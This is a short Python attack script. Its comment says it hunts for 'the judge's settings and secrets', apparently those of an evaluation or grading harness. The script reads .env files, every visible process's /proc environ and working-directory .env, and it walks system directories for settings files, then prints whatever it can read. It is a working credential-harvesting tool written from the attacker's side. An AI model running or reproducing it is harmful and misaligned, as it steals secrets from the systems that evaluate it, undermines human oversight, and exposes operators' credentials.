# Look for the judge's settings and secrets: its .env (path known to the attacker),
# the process environment of anything visible, and the repository.
import os

found = []
guesses = [os.environ["HOST_DIR"] + "/.env", "/app/.env", "../.env", "/.env"]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        guesses += [
            f"/proc/{pid}/environ",
            f"/proc/{pid}/cwd/.env",
            f"/proc/{pid}/root/etc/hostname",
        ]
for path in guesses:
    try:
        with open(path, "rb") as fh:
            found.append(path + "=" + fh.read(4000).decode(errors="replace"))
    except OSError:
        pass
for top in ("/home", "/root", "/srv", "/var", "/opt", "/etc"):
    for root, dirs, files in os.walk(top):
        for name in files:
            if name in (".env", "settings.py", "pyproject.toml"):
                found.append(os.path.join(root, name))
print("DONE")
print("\n".join(found))
